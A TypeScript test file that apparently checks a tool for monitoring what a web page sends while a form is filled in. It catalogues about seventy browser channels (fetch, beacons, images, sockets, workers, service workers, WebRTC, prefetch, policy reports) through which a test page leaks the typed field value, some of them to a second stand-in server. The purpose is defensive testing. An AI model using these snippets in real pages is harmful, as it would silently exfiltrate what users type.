import assert from "node:assert/strict";
import { createHash } from "node:crypto";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { after, describe, it } from "node:test";
import { servePages } from "../../env/page-site.js";
import { testBrowser } from "../../support/page.js";
import { filled } from "./filled.js";

const browser = await testBrowser();

/**
 * The channels through which a page can send: a script with `v`, the text of the field in base64. It runs at every change
 * of the field, and once more half a second later, as a page does that saves with a delay. HERE is the page's server,
 * THERE another one, UDP a port. `early`: runs when the page is opened.
 */
const CHANNELS: Readonly<Record<string, string | { readonly early: string; readonly send: string }>> = {
  "fetch, GET": "fetch('/c?' + v)",
  "fetch, POST": "fetch('/c', { method: 'POST', body: v })",
  "fetch, PUT of JSON": "fetch('/c', { method: 'PUT', body: JSON.stringify({ v }) })",
  "fetch that outlives the page": "fetch('/c', { method: 'POST', body: v, keepalive: true })",
  "fetch, a header": "fetch('/c', { headers: { 'x-v': v } })",
  "fetch, a cookie": "document.cookie = 'v=' + v; fetch('/c')",
  "fetch, the address of the page": "history.replaceState(0, '', '?' + v); fetch('/c')",
  "fetch to another server": "fetch('THERE/c?' + v, { mode: 'no-cors' })",
  "fetch, POST to another server": "fetch('THERE/c', { mode: 'no-cors', method: 'POST', body: v })",
  "the request before a request": "fetch('THERE/c?' + v, { headers: { 'x-v': v } })",
  fetchLater: "self.fetchLater?.('/c?' + v, { activateAfter: 0 })",
  XHR: "const x = new XMLHttpRequest(); x.open('POST', '/c'); x.send(v)",
  "XHR that waits": "const x = new XMLHttpRequest(); x.open('POST', '/c', false); try { x.send(v) } catch {}",
  beacon: "navigator.sendBeacon('/c', v)",
  image: "new Image().src = '/c?' + v",
  "image, the path": "new Image().src = '/c/' + v",
  "image of another server": "new Image().src = 'THERE/c/' + v",
  style: "document.body.style.background = 'url(/c?' + v + ')'",
  "style sheet": "add('link', { rel: 'stylesheet', href: '/c?' + v })",
  "style that imports": "add('style', { textContent: '@import \"/c?' + v + '\"' })",
  font: "new FontFace('f', 'url(/c?' + v + ')').load()",
  script: "add('script', { src: '/c?' + v })",
  module: "import('/c?' + v)",
  preload: "add('link', { rel: 'preload', as: 'image', href: '/c?' + v })",
  modulepreload: "add('link', { rel: 'modulepreload', href: '/c?' + v })",
  prefetch: "add('link', { rel: 'prefetch', href: '/c?' + v })",
  "prefetch of a page": "add('link', { rel: 'prefetch', as: 'document', href: '?v=' + v })",
  "speculation rules":
    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: ['/c?' + v], eagerness: 'immediate' }] }) })",
  prerender:
    "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ urls: ['/c?' + v], eagerness: 'immediate' }] }) })",
  icon: "add('link', { rel: 'icon', href: '/c?' + v })",
  manifest: "add('link', { rel: 'manifest', href: '/c?' + v })",
  video: "add('video', { src: '/c?' + v, preload: 'auto' })",
  drawing: "add('div', { innerHTML: '<svg><use href=\"/c?' + v + '#x\"/></svg>' })",
  object: "add('object', { data: '/c?' + v })",
  frame: "add('iframe', { src: '/c?' + v })",
  "frame of another server": "add('iframe', { src: 'THERE/c?' + v })",
  "fetch of a new frame": "add('iframe', {}).contentWindow.fetch('/c', { method: 'POST', body: v })",
  "socket of a new frame":
    "new (add('iframe', {}).contentWindow.WebSocket)('ws' + location.origin.slice(4) + '/socket?' + v)",
  "form into a frame":
    "add('iframe', { name: 'inner' }); const f = add('form', { method: 'post', action: '/c', target: 'inner' }); f.append(Object.assign(document.createElement('input'), { name: 'v', value: v })); f.submit()",
  "form, submit()": "document.forms[0].submit()",
  "form, requestSubmit()": "document.forms[0].requestSubmit()",
  "form, the button": "document.querySelector('button').click()",
  "form into a window": "document.forms[0].target = '_blank'; document.forms[0].submit()",
  address: "location.href = '/c?' + v",
  "address, by a frame": "add('iframe', {}).contentWindow.eval('parent.location.href = \"/c?' + v + '\"')",
  "address, by a frame's link":
    "const f = add('iframe', {}); f.contentDocument.body.innerHTML = '<a target=_top href=\"/c?' + v + '\">x</a>'; f.contentDocument.querySelector('a').click()",
  link: "add('a', { href: '/c?' + v, textContent: 'x' }).click()",
  "link, ping": "const a = add('a', { href: '#x', ping: '/c?' + v, textContent: 'x' }); a.click()",
  refresh: "add('meta', { httpEquiv: 'refresh', content: '0;url=/c?' + v })",
  reload: "history.replaceState(0, '', '?' + v); location.reload()",
  window: "window.open('/c?' + v)",
  "event source": "new EventSource('/c?' + v)",
  socket: "new WebSocket('ws' + location.origin.slice(4) + '/socket?' + v)",
  "socket, a message": { early: "ws = new WebSocket('ws' + location.origin.slice(4) + '/socket')", send: "ws.send(v)" },
  "socket, a message by a kept function": {
    early: "ws = new WebSocket('ws' + location.origin.slice(4) + '/socket'); keep = WebSocket.prototype.send",
    send: "keep.call(ws, v)",
  },
  "socket by a kept constructor": {
    early: "WS = WebSocket",
    send: "new WS('ws' + location.origin.slice(4) + '/socket?' + v)",
  },
  worker: { early: "w = new Worker('/worker.js')", send: "w.postMessage(v)" },
  "worker, a socket": { early: "w = new Worker('/worker-socket.js')", send: "w.postMessage(v)" },
  "new worker": "new Worker('/worker.js?' + v)",
  "new worker of a text":
    "new Worker(URL.createObjectURL(new Blob(['fetch(\"' + location.origin + '/c?' + v + '\", { mode: \"no-cors\" })'])))",
  "socket of a new worker":
    "new Worker(URL.createObjectURL(new Blob(['new WebSocket(\"ws' + location.origin.slice(4) + '/socket?' + v + '\")'])))",
  "new shared worker": "new SharedWorker('/worker.js?' + v)",
  "service worker": {
    early: "navigator.serviceWorker.register('/sw.js'); navigator.serviceWorker.ready.then((r) => (sw = r.active))",
    send: "sw.postMessage(v)",
  },
  "service worker by a kept function": {
    early:
      "navigator.serviceWorker.register('/sw.js'); navigator.serviceWorker.ready.then((r) => (sw = r.active)); keep = ServiceWorker.prototype.postMessage",
    send: "keep.call(sw, v)",
  },
  WebRTC:
    "const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:UDP' }] }); p.createDataChannel(v); p.createOffer().then((o) => p.setLocalDescription(o))",
  WebTransport: "new WebTransport('https://127.0.0.1:UDP/' + v).ready.catch(() => 0)",
  "report of a policy":
    "add('meta', { httpEquiv: 'content-security-policy', content: \"img-src 'none'; report-uri /c?\" + v }); new Image().src = '/x'",
};

const pageOf = (early: string, send: string, there: string, udp: number): string =>
  `<link rel="icon" href="data:,"><form method="get" action="/c"><label>Name <input name="name"></label><label>City <input name="city"></label><button>Go</button></form><script>
  let ws, w, sw, keep, WS; window.count = 0;
  const add = (name, own) => document.body.appendChild(Object.assign(document.createElement(name), own));
  const field = document.querySelector("[name=name]");
  const send = () => { const v = btoa(field.value).replace(/=/g, ""); ${send} };
  const all = () => { try { send() } finally { count++ } };
  field.addEventListener("input", () => { setTimeout(() => setTimeout(all, 500), 400); all(); });
  ${early}
  </script>`
    .replaceAll("THERE", there)
    .replaceAll("UDP", String(udp));

const WORKER = `onmessage = ({ data }) => fetch("/c", { method: "POST", body: data });`;
const FILES: Readonly<Record<string, string>> = {
  "/worker.js": WORKER,
  "/sw.js": WORKER,
  "/worker-socket.js": `const ws = new WebSocket("ws" + location.origin.slice(4) + "/socket"); onmessage = ({ data }) => ws.send(data);`,
};

describe("a page that is filled in", { concurrency: 6 }, () => {
  for (const [name, channel] of Object.entries(CHANNELS)) {
    const { early, send } = typeof channel === "string" ? { early: "", send: channel } : channel;
    it(`sends nothing that is not reported: ${name}`, async () => {
      const got: string[] = [];
      const udp = createSocket("udp4").on("message", () => got.push("UDP"));
      udp.bind(0, "127.0.0.1");
      await once(udp, "listening");
      await using there = await servePages({});
      const pages = { "/": pageOf(early, send, there.baseUrl, udp.address().port) };
      await using here = await servePages(
        pages,
        ({ url }, response) => {
          const file = FILES[url.split("?")[0] ?? ""];
          if (file === undefined) return false;
          response.writeHead(200, { "content-type": "text/javascript" }).end(file);
          return true;
        },
        undefined,
        (key, socket) => {
          const accept = createHash("sha1").update(`${key}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`).digest("base64");
          got.push("WebSocket");
          socket.on("data", () => got.push("WebSocket"));
          socket.write(
            `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n\r\n`,
          );
        },
      );
      const context = await browser.newContext();
      const page = await context.newPage();
      after(() => udp.close());
      after(() => context.close());
      await page.goto(here.baseUrl, { waitUntil: "networkidle" });
      if (early.includes("serviceWorker")) await page.waitForFunction("sw !== undefined && sw !== null");
      here.received.length = 0;
      got.length = 0;
      const { sent } = await filled(page, { Name: "Ines Meyer" }, 3000);
      const { length } = got;
      await page.waitForFunction("count >= 2");
      await page.evaluate(() => new Promise((done) => requestIdleCallback(done)));
      const arrived = [here, there].flatMap(({ received, baseUrl }) =>
        received.map(({ method, url }) => `${method} ${baseUrl}${url}`),
      );
      assert.equal(page.url().replace(/[?#].*/, ""), `${here.baseUrl}/`);
      for (const one of arrived) assert.ok(sent.includes(one), `${one} is not among ${sent}`);
      // one socket is like another; a function kept from before and that of a new worker are reported, not held
      const reported = sent.some((one) => one.startsWith("WebSocket"));
      assert.deepEqual([length > 0, got.length > length && !/kept|new worker/.test(name)], [reported, false]);
    });
  }
});
